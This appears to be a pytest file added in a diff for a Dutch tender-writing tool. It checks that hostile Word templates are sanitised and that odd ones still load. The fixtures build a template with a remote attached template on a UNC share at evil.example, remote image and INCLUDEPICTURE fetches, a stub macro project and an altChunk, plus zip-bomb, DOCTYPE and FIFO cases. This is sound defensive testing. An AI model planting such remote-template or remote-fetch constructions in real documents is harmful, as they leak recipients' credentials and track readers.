@@ -1,0 +1,177 @@
+"""Hostile house-style templates: nothing from them reaches bidders, odd ones still work, bombs are bounded."""
+
+from __future__ import annotations
+
+import io
+import os
+import threading
+import zipfile
+from datetime import date
+from pathlib import Path
+
+import docx
+import pytest
+
+from tender_assistant import docx_template
+from tender_assistant.docx_export import export_tender, load_template
+from tender_assistant.errors import TemplateError, TenderError
+
+TODAY = date(2026, 11, 25)
+ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+IMAGE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
+
+
+def _base() -> dict[str, bytes]:
+    buf = io.BytesIO()
+    d = docx.Document()
+    d.sections[0].header.paragraphs[0].text = "Gemeente Voorbeeld"
+    d.add_paragraph("Voorbeeld")
+    d.save(buf)
+    with zipfile.ZipFile(buf) as zf:
+        return {n: zf.read(n) for n in zf.namelist()}
+
+
+def _write(path: Path, parts: dict[str, bytes]) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, data in parts.items():
+            zf.writestr(name, data)
+    return path
+
+
+def _add_rel(parts: dict[str, bytes], rels: str, rel: str) -> None:
+    parts[rels] = parts[rels].replace(b"</Relationships>", rel.encode() + b"</Relationships>")
+
+
+def hostile(path: Path) -> Path:
+    """Attached template on a UNC share, a remote image in the header, a macro project and an altChunk."""
+    parts = _base()
+    settings_rels = "word/_rels/settings.xml.rels"
+    parts[settings_rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
+                            b'http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    _add_rel(parts, settings_rels, f'<Relationship Id="rIdT" Type="{ATTACHED}" '
+             'Target="file://\\\\evil.example\\share\\normal.dotm" TargetMode="External"/>')
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>", b'<w:attachedTemplate r:id="rIdT"/></w:settings>')
+    if b'xmlns:r=' not in parts["word/settings.xml"][:600]:
+        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+            b"<w:settings ", b'<w:settings xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+            b'relationships" ', 1)
+    header = next(n for n in parts if n.startswith("word/header"))
+    header_rels = f"word/_rels/{header.split('/')[-1]}.rels"
+    parts[header_rels] = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="'
+                          b'http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
+    _add_rel(parts, header_rels, f'<Relationship Id="rIdImg" Type="{IMAGE}" Target="http://evil.example/p.png" '
+             'TargetMode="External"/>')
+    pic = (b'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
+           b'wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="9" name="p"/><a:graphic xmlns:a='
+           b'"http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="x"><a:blip xmlns:r="'
+           b'http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rIdImg"/></a:graphicData>'
+           b'</a:graphic></wp:inline></w:drawing></w:r></w:p></w:hdr>')
+    parts[header] = parts[header].replace(b"</w:hdr>", pic)
+    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
+    _add_rel(parts, "word/_rels/document.xml.rels",
+             '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+             'Target="vbaProject.bin"/>'
+             '<Relationship Id="rIdAlt" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+             'aFChunk" Target="chunk.html"/>')
+    parts["word/chunk.html"] = b"<html><body><img src='http://evil.example/x.png'></body></html>"
+    parts["word/document.xml"] = parts["word/document.xml"].replace(
+        b"<w:sectPr", b'<w:altChunk r:id="rIdAlt"/><w:p><w:fldSimple w:instr="INCLUDEPICTURE '
+        b'&quot;http://evil.example/y.png&quot;"><w:r><w:t>plaatje</w:t></w:r></w:fldSimple></w:p><w:sectPr', 1)
+    return _write(path, parts)
+
+
+def test_hostile_template_content_is_dropped_and_reported(tmp_path, fake_lib, tender):
+    template = hostile(tmp_path / "huisstijl.docx")
+    notes: list[str] = []
+    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", template, today=TODAY, notes=notes)
+    with zipfile.ZipFile(out) as zf:
+        everything = b"".join(zf.read(n) for n in zf.namelist())
+        names = zf.namelist()
+    assert b"evil.example" not in everything and b"attachedTemplate" not in everything
+    assert b"altChunk" not in everything and b"INCLUDEPICTURE" not in everything
+    assert not any("vbaProject" in n or "chunk" in n for n in names)
+    assert len(notes) == 4 and any("extern" in n for n in notes) and any("macro" in n for n in notes)
+    doc = docx.Document(str(out))  # reopens, header text kept
+    assert "Gemeente Voorbeeld" in "".join(p.text for p in doc.sections[0].header.paragraphs)
+
+
+def test_ordinary_web_links_are_kept_without_notes(tmp_path):
+    parts = _base()
+    _add_rel(parts, "word/_rels/document.xml.rels", '<Relationship Id="rIdW" Type="http://schemas.openxmlformats.org/'
+             'officeDocument/2006/relationships/hyperlink" Target="https://www.zaanstad.nl" TargetMode="External"/>')
+    notes: list[str] = []
+    load_template(_write(tmp_path / "t.docx", parts), notes)
+    assert notes == []
+
+
+def test_template_without_sectpr_or_body_is_usable(tmp_path, fake_lib, tender):
+    parts = _base()
+    xml = parts["word/document.xml"]
+    start, end = xml.index(b"<w:sectPr"), xml.index(b"</w:sectPr>") + len(b"</w:sectPr>")
+    parts["word/document.xml"] = xml[:start] + xml[end:]
+    out = export_tender(tender, fake_lib, tmp_path / "a.docx", _write(tmp_path / "nosect.docx", parts), today=TODAY)
+    assert "Gunningscriteria" in "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
+    body_start, body_end = xml.index(b"<w:body>"), xml.index(b"</w:body>") + len(b"</w:body>")
+    parts["word/document.xml"] = xml[:body_start] + xml[body_end:]
+    out = export_tender(tender, fake_lib, tmp_path / "b.docx", _write(tmp_path / "nobody.docx", parts), today=TODAY)
+    assert "Gunningscriteria" in "\n".join(p.text for p in docx.Document(str(out)).paragraphs)
+
+
+def test_header_with_doctype_gives_a_document_that_reopens(tmp_path, fake_lib, tender):
+    parts = _base()
+    header = next(n for n in parts if n.startswith("word/header"))
+    xml = parts[header]
+    decl_end = xml.index(b"?>") + 2
+    parts[header] = (xml[:decl_end] + b'<!DOCTYPE w:hdr [<!ENTITY x "Gemeente">]>' + xml[decl_end:]).replace(
+        b"Gemeente Voorbeeld", b"&x; Voorbeeld")
+    out = export_tender(tender, fake_lib, tmp_path / "uit.docx", _write(tmp_path / "dt.docx", parts), today=TODAY)
+    with zipfile.ZipFile(out) as zf:
+        assert not any(b"DOCTYPE" in zf.read(n) for n in zf.namelist())
+    assert docx.Document(str(out)).paragraphs  # reopens
+
+
+def test_zip_bomb_template_is_refused_with_a_clear_message(tmp_path, monkeypatch):
+    parts = _base()
+    parts["word/media/big.bin"] = b"\0" * (3 * 1024 * 1024)
+    monkeypatch.setattr(docx_template, "MAX_UNPACKED", 2 * 1024 * 1024)
+    with pytest.raises(TemplateError, match="zip-bom"):
+        load_template(_write(tmp_path / "bom.docx", parts))
+    parts = _base()
+    parts["word/document.xml"] += b" " * (2 * 1024 * 1024)
+    monkeypatch.setattr(docx_template, "MAX_XML_PART", 1024 * 1024)
+    with pytest.raises(TemplateError, match="zip-bom"):
+        load_template(_write(tmp_path / "bom2.docx", parts))
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
+def test_fifo_or_device_as_template_is_refused_without_hanging(tmp_path):
+    fifo = tmp_path / "huisstijl.docx"
+    os.mkfifo(fifo)
+    result: list[BaseException] = []
+
+    def attempt() -> None:
+        try:
+            load_template(fifo)
+        except BaseException as exc:  # noqa: BLE001 - collected for the assertion below
+            result.append(exc)
+
+    worker = threading.Thread(target=attempt, daemon=True)
+    worker.start()
+    worker.join(10)
+    if worker.is_alive():  # unblock the reader so the test run can end, then fail
+        with open(fifo, "wb"):
+            pass
+        pytest.fail("reading a FIFO as template hangs")
+    assert isinstance(result[0], TemplateError) and "geen gewoon bestand" in str(result[0])
+    if Path("/dev/zero").exists():
+        with pytest.raises(TemplateError, match="geen gewoon bestand"):
+            load_template("/dev/zero")
+
+
+def test_output_equal_to_the_template_is_refused_and_the_template_kept(tmp_path, fake_lib, tender):
+    template = _write(tmp_path / "huisstijl.docx", _base())
+    before = template.read_bytes()
+    with pytest.raises(TenderError, match="sjabloon zelf"):
+        export_tender(tender, fake_lib, tmp_path / "." / "huisstijl.docx", template, today=TODAY)
+    assert template.read_bytes() == before
